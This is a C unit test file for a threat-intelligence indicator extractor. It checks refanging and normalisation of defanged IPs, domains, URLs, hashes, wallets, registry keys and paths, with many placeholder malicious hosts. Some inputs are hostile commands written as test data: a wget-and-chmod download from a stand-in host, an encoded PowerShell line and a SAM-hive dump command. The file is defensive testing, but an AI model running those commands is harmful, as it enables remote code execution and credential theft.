#include "tests/support.h"

#include "base/buf.h"
#include "engine/select/indicator.h"
#include "engine/select/scan.h"

#include "base/banned.h"

/* "type value" of each item, with commas; references end with "!". */
static const char *found(struct ctx *c, const char *text, enum ind_kind kind)
{
	struct ind_list list = { 0 };
	struct buf b;

	buf_init(&b, c->a, 1 << 20);
	assert_ok(c, ind_scan(c, slice_of(text), kind, &list));
	for (size_t i = 0; i < list.n; i++) {
		buf_putf(&b, "%s%s ", i ? ", " : "", ind_type_word(list.items[i].type));
		buf_put(&b, list.items[i].value);
		if (list.items[i].port)
			buf_putf(&b, " port %u", list.items[i].port);
		if (list.items[i].role == IND_REF)
			buf_putc(&b, '!');
	}
	buf_putc(&b, '\0');
	return b.p;
}

struct row { const char *text, *want; };

static void check(struct ctx *c, const struct row *rows, size_t n, enum ind_kind kind)
{
	for (size_t i = 0; i < n; i++) {
		const char *got = found(c, rows[i].text, kind);

		if (strcmp(got, rows[i].want) != 0)
			fail_msg("%s\n  got  %s\n  want %s", rows[i].text, got, rows[i].want);
	}
}

#define CHECK(c, rows, kind) check((c), (rows), sizeof(rows) / sizeof(rows)[0], (kind))

static void every_defanging_is_taken_back(void **state)
{
	static const struct row rows[] = {
		{ "203.1.115[.]7", "ipv4 203.1.115.7" }, { "203[.]1[.]115[.]7", "ipv4 203.1.115.7" }, { "203(.)1(.)115(.)7", "ipv4 203.1.115.7" },
		{ "203{.}1{.}115{.}7", "ipv4 203.1.115.7" }, { "203[dot]1[DOT]115(dot)7", "ipv4 203.1.115.7" },
		{ "203 [dot] 1 [dot] 115 [dot] 7", "ipv4 203.1.115.7" }, { "203[.1[.115[.7", "ipv4 203.1.115.7" },
		{ "203.]1.]115.]7", "ipv4 203.1.115.7" }, { "203\\.1\\.115\\.7", "ipv4 203.1.115.7" }, { "203．1．115．7", "ipv4 203.1.115.7" },
		{ "２０３．１．１１５．７", "ipv4 203.1.115.7" }, { "203。1。115。7", "ipv4 203.1.115.7" }, { "203（ドット）1［.］115【.】7", "ipv4 203.1.115.7" },
		{ "evil-site[.]co[.]jp", "domain evil-site.co.jp" }, { "evil-site[.]co.jp", "domain evil-site.co.jp" },
		{ "ｅｖｉｌ－ｓｉｔｅ．ｎｅｔ", "domain evil-site.net" }, { "www。evil-site。net", "domain www.evil-site.net" },
		{ "evil [dot] example-x [dot] net", "domain evil.example-x.net" }, { "a[at]evil[.]ru", "email a@evil.ru" },
		{ "a (at) evil (dot) ru", "email a@evil.ru" }, { "a＠evil.ru", "email a@evil.ru" }, { "a[@]evil.ru", "email a@evil.ru" },
		{ "hxxp://evil.ru/a", "url http://evil.ru/a" }, { "hXXps[:]//evil[.]ru/a", "url https://evil.ru/a" },
		{ "hxxps[://]evil[.]ru/a", "url https://evil.ru/a" }, { "h**p://evil.ru", "url http://evil.ru" }, { "h__ps://evil.ru/", "url https://evil.ru/" },
		{ "[http]://evil.ru/a", "url http://evil.ru/a" }, { "htxp://evil.ru", "url http://evil.ru" }, { "meow://evil.ru", "url http://evil.ru" },
		{ "hxxp://evil[.]ru[/]a", "url http://evil.ru/a" }, { "ttp://evil.ru/a", "url http://evil.ru/a" },
		{ "hxxp://203[.]1[.]115[.]7:8080/x", "url http://203.1.115.7:8080/x port 8080" },
	};

	CHECK(*state, rows, IND_KIND_TEXT);
}

static void addresses_have_ports_blocks_and_roles(void **state)
{
	static const struct row rows[] = {
		{ "203.1.115.7:443", "ipv4 203.1.115.7 port 443" }, { "203.1.115.7：８４４３", "ipv4 203.1.115.7 port 8443" },
		{ "203.1.115.7[:]53", "ipv4 203.1.115.7 port 53" }, { "203.1.115.0/24", "cidr 203.1.115.0/24" }, { "203.1.115.7/tcp", "ipv4 203.1.115.7" },
		{ "接続先は203.1.115.7です", "ipv4 203.1.115.7" }, { "203.1.115.7から", "ipv4 203.1.115.7" }, { "203.1.115.7-203.1.115.9", "ipv4 203.1.115.7, ipv4 203.1.115.9" },
		{ "203.001.115.007", "ipv4 203.1.115.7" }, { "192.168.1.2", "ipv4 192.168.1.2!" }, { "8.8.8.8", "ipv4 8.8.8.8!" }, { "203.0.113.9", "ipv4 203.0.113.9!" },
		{ "2a0c:b641:70::1f", "ipv6 2a0c:b641:70::1f" }, { "[2a0c:b641:70::1f]:443", "ipv6 2a0c:b641:70::1f port 443" },
		{ "は2acb:d780:e123::7e29で", "ipv6 2acb:d780:e123::7e29" }, { "2a0c:b641::/32", "cidr 2a0c:b641::/32" }, { "fe80::1ff:fe23:4567:890a", "ipv6 fe80::1ff:fe23:4567:890a!" },
		{ "MAC 0a:2C:06:3e:31:eb", "mac 0a:2c:06:3e:31:eb" }, { "0A-2C-06-3E-31-EB", "mac 0a:2c:06:3e:31:eb" }, { "AS64500", "asn AS64500" },
	};

	CHECK(*state, rows, IND_KIND_TEXT);
}

static void names_end_where_sentences_begin(void **state)
{
	static const struct row rows[] = {
		{ "検体がwww.evil-site.clickと通信", "domain www.evil-site.click" }, { "dst=evil-site.online action=allow", "domain evil-site.online" },
		{ "evil-site.ru, others", "domain evil-site.ru" }, { "seen at www.evil-site.su.", "domain www.evil-site.su" },
		{ "evil-site.com.The next", "domain evil-site.com" }, { "偽サイト 日本郵便配送2[.]com を確認", "domain xn--2-je7ar22enfbly7i1gbwr.com" },
		{ "FQDN: 楽天カード1.jp", "domain xn--1-weu4d1ip81qtqu.jp" }, { "аmazon5[.]com", "domain xn--mazon5-2nf.com" },
		{ "xn--7-weu4d1ip81qtqu.com", "domain xn--7-weu4d1ip81qtqu.com" }, { "drhg4pxhkc5fnjy5[.]onion", "domain drhg4pxhkc5fnjy5.onion" },
		{ "example.com", "domain example.com!" }, { "www.google.com", "domain www.google.com!" }, { "google[.]com", "domain google.com" },
	};

	CHECK(*state, rows, IND_KIND_TEXT);
}

static void urls_end_at_their_own_end(void **state)
{
	static const struct row rows[] = {
		{ "（http://evil.ru/a）", "url http://evil.ru/a" }, { "「http://evil.ru/a」", "url http://evil.ru/a" }, { "(http://evil.ru/a).", "url http://evil.ru/a" },
		{ "http://evil.ru/a、ほか", "url http://evil.ru/a" }, { "<http://evil.ru/a>;", "url http://evil.ru/a" }, { "`http://evil.ru/a`", "url http://evil.ru/a" },
		{ "++http://evil.ru/a++", "url http://evil.ru/a" }, { "**http://evil.ru/a**", "url http://evil.ru/a" }, { "http://evil.ru/a'", "url http://evil.ru/a" },
		{ "\"http://evil.ru/a\",", "url http://evil.ru/a" }, { "http://evil.ru/a_(b)", "url http://evil.ru/a_(b)" }, { "http://evil.ru/?q=1&t=2#f", "url http://evil.ru/?q=1&t=2#f" },
		{ "http://evil.ru/a,http://evil.ru/b", "url http://evil.ru/a, url http://evil.ru/b" }, { "http://evil.ru/a[0]=1", "url http://evil.ru/a[0]=1" },
		{ "evil.ru/gate.php", "url evil.ru/gate.php" }, { "evil.ru:8080/x", "url evil.ru:8080/x port 8080" },
		{ "https://bank.example.jp@evil.ru/l", "url https://bank.example.jp@evil.ru/l" }, { "<a href=\"http://evil.ru/a?a=1&amp;b=2\">x</a>", "url http://evil.ru/a?a=1&b=2" },
	};
	static const struct row markup[] = {
		{ "[http://evil.ru/a](http://evil.ru/a)", "url http://evil.ru/a, url http://evil.ru/a!" },
		{ "https://www.unknown-lab.com/2024/report/[the report]", "url https://www.unknown-lab.com/2024/report/!" },
		{ "The blog is available at https://www.unknown-lab.com/x/", "url https://www.unknown-lab.com/x/!" },
	};

	CHECK(*state, rows, IND_KIND_TEXT);
	CHECK(*state, markup, IND_KIND_MARKUP);
}

static void hashes_and_wallets_are_told_apart(void **state)
{
	static const struct row rows[] = {
		{ "441B8B23523412186F2920DB3A999BEE", "md5 441b8b23523412186f2920db3a999bee" },
		{ "検体：761e1863edac2f9970003e947e50013eca79eb36", "sha1 761e1863edac2f9970003e947e50013eca79eb36" },
		{ "653124cbc9a7078a767c768058b83fa6af350f39f3e3dfd8f06985301545ede0|sha256", "sha256 653124cbc9a7078a767c768058b83fa6af350f39f3e3dfd8f06985301545ede0" },
		{ "JA3: cb6d19bc281d064a32631e806c85acb2", "ja3 cb6d19bc281d064a32631e806c85acb2" }, { "imphash=cb6d19bc281d064a32631e806c85acb2", "imphash cb6d19bc281d064a32631e806c85acb2" },
		{ "t13d1516h2_8daaf6152771_b186095e22b6", "ja4 t13d1516h2_8daaf6152771_b186095e22b6" },
		{ "ETH: 0x1720290b6e7a9c62a0461d8965c3c55a547bfa02", "eth 0x1720290b6e7a9c62a0461d8965c3c55a547bfa02" },
		{ "1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa", "btc 1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa" }, { "1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNb", "" },
		{ "bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4", "btc bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4" }, { "bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t5", "" },
		{ "00000000000000000000000000000000", "" }, { "20250101000000012025010100000001", "" }, { "441b8b23523412186f2920db3a999bee0", "" },
		{ "441b8b23523412186f2920db3a999bee.evil.ru", "domain 441b8b23523412186f2920db3a999bee.evil.ru" },
		{ "d41d8cd98f00b204e9800998ecf8427e", "md5 d41d8cd98f00b204e9800998ecf8427e!" },
	};

	CHECK(*state, rows, IND_KIND_TEXT);
}

static void identifiers_paths_and_names(void **state)
{
	static const struct row rows[] = {
		{ "CVE-2024-3400", "cve CVE-2024-3400" }, { "（cve–2024–3400）", "cve CVE-2024-3400" }, { "CVE 2024-13400:", "cve CVE-2024-13400" },
		{ "ＣＶＥ－２０２４－３４００", "cve CVE-2024-3400" }, { "T1059.001", "attack T1059.001" }, { "技術: TA0011", "attack TA0011" }, { "T9059", "" },
		{ "`HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\x`", "registry HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\x" },
		{ "レジストリ HKCU\\Software\\Run\\a を作成", "registry HKCU\\Software\\Run\\a" }, { "reg add \"HKLM\\S\\{a b}\" /v x", "registry HKLM\\S\\{a b}" },
		{ "\"C:\\Program Files\\A B\\c d.exe\"", "file_path C:\\Program Files\\A B\\c d.exe" }, { "ファイル /tmp/.x61/sshd を設置", "file_path /tmp/.x61/sshd" },
		{ "%APPDATA%\\a\\b.vbs", "file_path %APPDATA%\\a\\b.vbs" }, { "help.xlsmを実行", "file_name help.xlsm" },
		{ "CreateMutexA(\"Global\\AB12_X\")", "mutex Global\\AB12_X" }, { "ミューテックス：AB12_X", "mutex AB12_X" }, { "mutex name Local\\AB12", "mutex Local\\AB12" },
		{ "User-Agent: Mozilla/5.0 (X; Chrome/92.0.33.63)", "user_agent Mozilla/5.0 (X; Chrome/92.0.33.63)" },
		{ "User-Agent (Chrome, Firefox, Safari) to get past it", "" }, { "built on Next.js with `user.me`", "" },
	};

	CHECK(*state, rows, IND_KIND_TEXT);
}

static void what_only_looks_alike_is_left(void **state)
{
	static const char *const decoys[] = {
		"version 14.3.97.18", "バージョン2.1.12.61", "v6.5.8.59 build", "第1.2.3.4節を参照", "OID 1.3.6.1.4.1.86.45", "Chrome/92.0.33.63", "2025.03.04 時点",
		"3.14、1,024.00円", "serial 02:4f:7d:c3:e8:ea:c2:5c:fb:b6:31:68:cd:dd:39:ee", "10:48:29", "{72d492be-d2cc-4806-834c-6024b4388e13}", "std::vector",
		"#345763; color:#8357db", "com.android.files.service", "document.write(x); window.open(y); obj.name", "Win32/Emotet.RU", "MSIL/Agent.DJ trojan", "Turla.AW",
		"README.md と setup.py", "libcrypto.so.1.1", "System.IO", "ASP.NET", "e.g. this", "a.b", "1.2.3", "1.2.3.4.5", "256.1.1.1", "x@y", "http://", "::1234 a::b",
	};

	for (size_t i = 0; i < sizeof decoys / sizeof decoys[0]; i++) {
		const char *got = found(*state, decoys[i], IND_KIND_TEXT);

		if (got[0])
			fail_msg("%s: got %s", decoys[i], got);
	}
}

static void one_level_of_encoding_is_opened(void **state)
{
	static const struct row rows[] = {
		{ "x=aHR0cDovL2V2aWwucnUvZ2F0ZS5waHA=;", "url http://evil.ru/gate.php" },
		{ "powershell -enc aAB0AHQAcAA6AC8ALwBlAHYAaQBsAC4AcgB1AC8AYQA=", "url http://evil.ru/a" },
		{ "GET /redir?url=http%3A%2F%2Fevil.ru%2Fa HTTP/1.1", "url http://evil.ru/a" },
		{ "\"\\x68\\x74\\x74\\x70\\x3a\\x2f\\x2f\\x65\\x76\\x69\\x6c\\x2e\\x72\\x75\"", "url http://evil.ru" },
		{ "{\"url\":\"https:\\/\\/evil.ru\\/a\"}", "url https://evil.ru/a" },
	};
	static const struct row json[] = {
		{ "{\"a\":\"C:\\\\Users\\\\Public\\\\a.lnk\"}", "file_path C:\\Users\\Public\\a.lnk" }, { "[\"\\u901a\\u4fe1\\u5148 evil\\\\.ru\"]", "domain evil.ru" },
	};
	static const struct row csv[] = {
		{ "1,http://evil.ru/a,high", "url http://evil.ru/a" }, { "1,\"http://evil.ru/a?b=\"\"c\"\"\",x", "url http://evil.ru/a?b=" },
	};

	CHECK(*state, rows, IND_KIND_TEXT);
	CHECK(*state, json, IND_KIND_JSON);
	CHECK(*state, csv, IND_KIND_CSV);
}

static void places_point_into_the_text_as_given(void **state)
{
	struct ctx *c = *state;
	slice text = S("通信先 hxxp[:]//evil[.]ru/a と ２０３．１．１１５．７。");
	struct ind_list list = { 0 };

	assert_ok(c, ind_scan(c, text, IND_KIND_TEXT, &list));
	assert_int_equal(list.n, 2);
	assert_slice(slice_sub(text, list.items[0].start, list.items[0].end - list.items[0].start), S("hxxp[:]//evil[.]ru/a"));
	assert_slice(slice_sub(text, list.items[1].start, list.items[1].end - list.items[1].start), S("２０３．１．１１５．７"));
	assert_true(list.items[0].defanged);
}

static void other_layouts_of_reports_are_read(void **state)
{
	static const struct row rows[] = {
		{ "sha256:ca978112ca1bbdcafac231b39a23dc4da786eff8147c4e72b9807785afee48bb",
			"sha256 ca978112ca1bbdcafac231b39a23dc4da786eff8147c4e72b9807785afee48bb" },
		{ "攻撃元45.77.1.2からの通信", "ipv4 45.77.1.2" },
		{ "h[xx]p://bad-site[.]ru/x", "url http://bad-site.ru/x" },
		{ "wget http://evil-a.com/x.sh;chmod 777 x.sh", "url http://evil-a.com/x.sh, file_name x.sh" },
		{ "\\\\45.77.1.2\\share\\a.exe", "file_path \\\\45.77.1.2\\share\\a.exe, ipv4 45.77.1.2" },
		{ "\\\\evil-a.com\\share\\a.exe", "file_path \\\\evil-a.com\\share\\a.exe, domain evil-a.com" },
		{ "http://a1.com/x;jsessionid=1", "url http://a1.com/x;jsessionid=1" },
		{ "alert tcp any any -> 45.77.1.2 4444 (msg:\"x\"; sid:1;)", "ipv4 45.77.1.2" },
		{ "DestinationHostname|endswith: '.evil-a.com'", "domain evil-a.com" },
		{ "[file:hashes.'SHA-256' = 'ca978112ca1bbdcafac231b39a23dc4da786eff8147c4e72b9807785afee48bb']",
			"sha256 ca978112ca1bbdcafac231b39a23dc4da786eff8147c4e72b9807785afee48bb" },
		{ "evil-a[.]com（45.77.1[.]2）→45.77.1[.]3", "domain evil-a.com, ipv4 45.77.1.2, ipv4 45.77.1.3" },
		{ "接続先：evil-a[.]com、ポート：443", "domain evil-a.com" },
		{ "{0CC175B9-C0F1-B6A8-31C3-99E269772661}", "" }, { "1.2.3.4.5", "" }, { "org.apache.hadoop.ipc.Server", "" },
	};

	CHECK(*state, rows, IND_KIND_TEXT);
}

static void members_flows_and_archives_are_no_hosts(void **state)
{
	static const struct row rows[] = {
		{ "(Get-Location).Drive.Name", "" }, { "grant Mail.Read to it", "" }, { "WScript.Network", "" }, { "if (d.data === 1)", "" },
		{ "iframe.style.top = '0';", "" }, { "e.data && f", "" }, { "flowbits:set,fox.bigip.rce.post;", "" },
		{ "file:name = 'keepass-2.52.zip'", "file_name keepass-2.52.zip" }, { "invoice_x.com.pdf.zip", "file_name invoice_x.com.pdf.zip" },
		{ "%3dnew%20java.io.InputStreamReader(", "" }, { "q=%20evil-a.com", "domain evil-a.com" },
		{ "mail.evil-a.top", "domain mail.evil-a.top" }, { "evil-a.data", "domain evil-a.data" }, { "evil-a.zip", "file_name evil-a.zip" },
		{ "evil-a[.]zip", "domain evil-a.zip" }, { "![](media/441b8b23523412186f2920db3a999bee.png)", "" },
		{ "After=network.target", "" }, { "Array.prototype.slice.call(arguments)", "" }, { "evil-a.com(203.1.115.7)", "domain evil-a.com, ipv4 203.1.115.7" },
		{ "document.location.host || a", "" }, { "see document.location.host there", "" }, { "the android.os.Build class", "" }, { "seen in Finder.app, but", "file_name Finder.app" },
		{ "441b8b23523412186f2920db3a999bee | mod_dir.so | ibz.so", "md5 441b8b23523412186f2920db3a999bee" }, { "at ibz.so", "domain ibz.so" },
		{ "441B8B… shop-x.pdf.com", "file_name shop-x.pdf.com" }, { "mcutil.dll.bbc", "" }, { "in%20.NET%20x", "" }, { "Shop.app/Contents/run", "url shop.app/Contents/run" },
		{ "tool-4.5-py3-any.zip", "file_name tool-4.5-py3-any.zip" }, { "reg.exe save x sam.save", "file_name reg.exe" },
		{ "the version they use is the 3.0.4.0 released", "" }, { "| Version | 45.1.0.4 |", "" }, { "is 45.1.0.4 here", "ipv4 45.1.0.4" },
	};
	static const struct row csv[] = { { "file-version   ,1.0.0.0", "" }, { "ip,45.77.1.2", "ipv4 45.77.1.2" } };

	CHECK(*state, rows, IND_KIND_TEXT);
	CHECK(*state, csv, IND_KIND_CSV);
}

static void rules_and_workflows_are_read(void **state)
{
	static const struct row rows[] = {
		{ "Image|endswith: '\\winapi-x.exe'", "file_name winapi-x.exe" }, { "'a\\winapi-x.exe'", "" },
		{ "HKCU\\S\\x HKEY_LOCAL_MACHINE\\S\\y", "registry HKCU\\S\\x, registry HKEY_LOCAL_MACHINE\\S\\y" },
		{ "\"C:\\P\\a.exe %APPDATA%\\b.dll D:\\e.txt\"", "file_path C:\\P\\a.exe, file_path %APPDATA%\\b.dll, file_path D:\\e.txt" },
		{ "Trojan.Win32.Agent.id HEUR:Trojan.MSIL.Agent.gen", "" }, { "peer ::ffff:45.77.1.2 closed", "ipv4 45.77.1.2" },
		{ "git config user.email \"x\"", "" }, { "tag: ${{ steps.date.outputs.date }}", "" }, { "secure-a.email", "domain secure-a.email" },
		{ "var u=o.q[s];u.id==e&&r(e),r&&(u.id=r),(b.id||'')", "" }, { "see s.id and q.gs, t.co", "domain s.id, domain q.gs, domain t.co" },
	};

	CHECK(*state, rows, IND_KIND_TEXT);
}

static void careless_defanging_is_understood(void **state)
{
	static const struct row rows[] = {
		{ "evil-\xc2\xad" "site.com", "domain evil-site.com" }, { "45.77\xef\xbb\xbf.1.2", "ipv4 45.77.1.2" }, { "ev\xe2\x80\x8bil-a.com", "domain evil-a.com" }, { "ev&#8203;il-a.com", "domain evil-a.com" },
		{ "http:\\\\evil-a.com/gate.php", "url http://evil-a.com/gate.php" },
		{ "hxxp:\\\\evil-a[.]com/gate.php", "url http://evil-a.com/gate.php" }, { "hxxp:\\\\\\\\evil-a[.]com/g", "url http://evil-a.com/g" }, { "図5.1.1.2 と表3.1.1.2", "" }, { "一覧表45.77.1.2", "ipv4 45.77.1.2" },
		{ "http//www.evil-a.com/2bKr8Z", "url www.evil-a.com/2bKr8Z" },
		{ "\"http://a1.com/x,http://b1.com/y\"", "url http://a1.com/x, url http://b1.com/y" },
		{ "http://203.1.115.7@80/Doc/a3.cmd", "url http://203.1.115.7" },
		{ "`magnet:?xt=urn:btih:wwph4&dn=Some Program 4.0.9.3 x.Final.zip`, a1.com", "file_name x.Final.zip, domain a1.com" },
	};
	static const struct row json[] = { { "[\"evil\\u200b-a.com\"]", "domain evil-a.com" }, { "{\"C2\": \"evil-a\\.com,/jquery-3.3.1.min.js\"}", "domain evil-a.com" } };
	static const struct row csv[] = { { "url;http://a1.com/x;LAPSUS$;WHITE\nmd5;;seen at http://b1.com/y;WHITE", "url http://a1.com/x, url http://b1.com/y" } };

	CHECK(*state, rows, IND_KIND_TEXT);
	CHECK(*state, json, IND_KIND_JSON);
	CHECK(*state, csv, IND_KIND_CSV);
}

/* Writers of JSON that keep to ASCII escape the full-width signs, too. */
static void escapes_of_json_are_defangings_as_well(void **state)
{
	static const struct row json[] = {
		{ "{\"a\": \"45\\uff3b\\uff0e\\uff3d77\\uff3b\\uff0e\\uff3d1\\uff08.\\uff092\"}", "ipv4 45.77.1.2" },
		{ "{\"a\": \"\\u901a\\u4fe1\\u5148\\u306fevil-a\\u3010.\\u3011com\\u3067\\u3059\"}", "domain evil-a.com" },
		{ "{\"a\": \"evil-a[\\u30c9\\u30c3\\u30c8]com\"}", "domain evil-a.com" },
		{ "{\"a\": \"x\\uff08\\u5099\\u8003\\uff09 evil-a.com\\uff08\\u4ed6\\uff09\"}", "domain evil-a.com" },
		{ "{\"a\": \"\\u003cHKCU\\u003e\\\\SOFTWARE\\\\X\\nValue\"}", "registry HKCU\\SOFTWARE\\X" },
	};
	static const struct row rows[] = { { "ｈｔｔｐ：／／ｅｖｉｌ－ａ．ｃｏｍ／ｇ？ｉｄ＝５２", "url http://evil-a.com/g?id=52" }, { "evil-a.comですか？はい", "domain evil-a.com" } };

	CHECK(*state, json, IND_KIND_JSON);
	CHECK(*state, rows, IND_KIND_TEXT);
}

static void keys_of_the_registry_may_have_blanks_and_brackets(void **state)
{
	static const struct row rows[] = {
		{ "HKCU\\Software\\Explorer\\User Shell Folders, then", "registry HKCU\\Software\\Explorer\\User Shell Folders" },
		{ "<HKLM>\\SOFTWARE\\X\\RUN   | 5", "registry HKLM\\SOFTWARE\\X\\RUN" },
		{ "- HKLM\\SYSTEM\\Services\\Evil Service\nnext", "registry HKLM\\SYSTEM\\Services\\Evil Service" },
		{ "made HKLM\\SYSTEM\\Services\\Evil Service", "registry HKLM\\SYSTEM\\Services\\Evil" },
		{ "HKCU\\Software\\Evil is used for more\n", "registry HKCU\\Software\\Evil" }, { "HKCU\\Software\\Run /v Evil", "registry HKCU\\Software\\Run" },
	};

	CHECK(*state, rows, IND_KIND_TEXT);
}

static void a_list_of_hosts_makes_a_host_of_its_lines(void **state)
{
	static const struct row rows[] = {
		{ "a1.com\nolympus.mov\nb1.com\n", "domain a1.com, domain olympus.mov, domain b1.com" },
		{ "# more\n\nde.pool-a.xyz\ninfo.warii.club\n203.1.115.7:80\n", "domain de.pool-a.xyz, domain info.warii.club, ipv4 203.1.115.7 port 80" },
		{ "a1.com\nus.810001.xyz:8080\nco.cl\nntdll.top\nb1.com", "domain a1.com, domain us.810001.xyz port 8080, domain co.cl, domain ntdll.top, domain b1.com" },
		{ "load.sh\nget.py\n", "file_name load.sh, file_name get.py" }, { "Files\nload.sh\na1.com", "file_name load.sh, domain a1.com" },
		{ "com.maker.game\ncom.maker.app.games\nru.maker.money", "" }, { "seen de.pool-a.xyz there", "domain de.pool-a.xyz" },
		{ "by.st.PriorMobile\ncom.sbi.Freedom\n", "" }, { "a1.com//x/y.vbs", "url a1.com//x/y.vbs" }, { "cve-2019-0708.com", "domain cve-2019-0708.com" },
		{ "441b8b23523412186f2920db3a999bee-77a0.evil.ru", "domain 441b8b23523412186f2920db3a999bee-77a0.evil.ru" },
	};

	CHECK(*state, rows, IND_KIND_TEXT);
}

static void what_leads_to_reading_is_a_reference(void **state)
{
	static const struct row markup[] = {
		{ "[news-x.gov.ua](https://news-x.gov.ua/article/40102)", "domain news-x.gov.ua!, url https://news-x.gov.ua/article/40102!" },
		{ "[evil-a.com](https://www.virustotal.com/gui/domain/evil-a.com)", "domain evil-a.com, url https://www.virustotal.com/gui/domain/evil-a.com!" },
		{ "[news-x.com](https://edition.news-x.com/a)", "domain news-x.com!, url https://edition.news-x.com/a!" },
		{ "[twitter.com/someone](https://twitter.com/someone/status/1)", "url twitter.com/someone!, url https://twitter.com/someone/status/1!" },
		{ "write to threatintel [at] eset.com", "email threatintel@eset.com!" },
	};
	static const struct row rules[] = { { "(msg:\"x\"; reference:url,lab-x.com/a.pdf; sid:1;)", "url lab-x.com/a.pdf!" } };
	static const struct row json[] = {
		{ "{\"source_name\": \"capec\", \"url\": \"https://lab-x.com/a\"}, {\"url\": \"https://evil-a.com/b\"}", "url https://lab-x.com/a!, url https://evil-a.com/b" },
	};
	/* in a table of values it is none, whosever host it is */
	static const struct row csv[] = {
		{ "value,notes\nhttps://www.youtube.com/@x,account\n", "url https://www.youtube.com/@x" },
		{ "Network activity,url,\"https://twitter.com/x\",1", "url https://twitter.com/x" }, { "a1.com,https://www.youtube.com/@x", "domain a1.com, url https://www.youtube.com/@x!" },
		{ "1.2 Accounts,hxxp://x.com/name,\n1.2 Accounts,https://x.com/name\n", "url http://x.com/name, url https://x.com/name" },
		{ "a1.com,https://x.com/lab/status/123", "domain a1.com, url https://x.com/lab/status/123!" },
	};

	CHECK(*state, markup, IND_KIND_MARKUP);
	CHECK(*state, rules, IND_KIND_TEXT);
	CHECK(*state, json, IND_KIND_JSON);
	CHECK(*state, csv, IND_KIND_CSV);
}

static uint32_t next_random(uint32_t *s)
{
	*s = *s * 1664525u + 1013904223u;
	return *s >> 8;
}

/* The short ways for addresses and plain names against the long way, at each dot of random text. */
static void short_ways_judge_like_the_long_one(void **state)
{
	static const char *const parts[] = { ".", ".", ".", "com", "COM", "org", "co", "jp", "evil", "a", "Server", "DataNode", "x-1", "-", "_", "_x", "192", "8",
		"255", "256", "01", "10.0.0.1", "1.2.3.4", " ", "/", "@", ":80", "例え", "ア", "\xd0\xb0", "py", "so", "The", "onion", "a23456789012345678901234567890b",
		"xn--p1ai", "(", "..", ".-", "9z", "museum", "%" };
	struct ctx *c = *state;
	uint32_t seed = 6;

	for (int round = 0; round < 60000; round++) {
		struct folded f;
		struct scan s = { .c = c, .f = &f };
		struct buf b;
		size_t floor;

		arena_reset(c->a);
		buf_init(&b, c->a, 1024);
		for (uint32_t n = next_random(&seed) % 14 + 2; n; n--)
			buf_putz(&b, parts[next_random(&seed) % (sizeof parts / sizeof parts[0])]);
		assert_ok(c, fold_text(c, buf_slice(&b), IND_KIND_TEXT, &f));
		s.t = f.text;
		floor = next_random(&seed) % 4 ? 0 : next_random(&seed) % (s.t.len + 1);
		for (size_t at = floor; at < s.t.len; at++) {
			struct host h, l;

			if (s.t.p[at] != '.')
				continue;
			host_judge(&s, at, floor, &h);
			host_judge_long(&s, at, floor, &l);
			if (h.kind != l.kind || h.resume != l.resume || (h.kind != HOST_NONE && (h.start != l.start || h.end != l.end)))
				fail_msg("%.*s at %zu: kind %d and %d", S_ARG(s.t), at, (int)h.kind, (int)l.kind);
			if (h.kind != HOST_IPV4 && h.kind != HOST_NAME)
				continue;
			assert_slice(((slice){ h.text, h.len }), ((slice){ l.text, l.len }));
			host_hash(&h);
			host_hash(&l);
			assert_int_equal(h.n, l.n);
			assert_memory_equal(h.hash, l.hash, h.n * sizeof h.hash[0]);
			assert_true(h.kind != HOST_NAME || h.n == HASHED_MOST || (h.first == l.first && h.hash[0] == word_hash((slice){ h.text, h.len })));
		}
	}
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		WORK_TEST(every_defanging_is_taken_back), WORK_TEST(addresses_have_ports_blocks_and_roles), WORK_TEST(names_end_where_sentences_begin),
		WORK_TEST(urls_end_at_their_own_end), WORK_TEST(hashes_and_wallets_are_told_apart), WORK_TEST(identifiers_paths_and_names),
		WORK_TEST(what_only_looks_alike_is_left), WORK_TEST(one_level_of_encoding_is_opened), WORK_TEST(places_point_into_the_text_as_given),
		WORK_TEST(short_ways_judge_like_the_long_one), WORK_TEST(other_layouts_of_reports_are_read),
		WORK_TEST(members_flows_and_archives_are_no_hosts), WORK_TEST(careless_defanging_is_understood), WORK_TEST(a_list_of_hosts_makes_a_host_of_its_lines),
		WORK_TEST(what_leads_to_reading_is_a_reference), WORK_TEST(escapes_of_json_are_defangings_as_well), WORK_TEST(rules_and_workflows_are_read),
		WORK_TEST(keys_of_the_registry_may_have_blanks_and_brackets),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
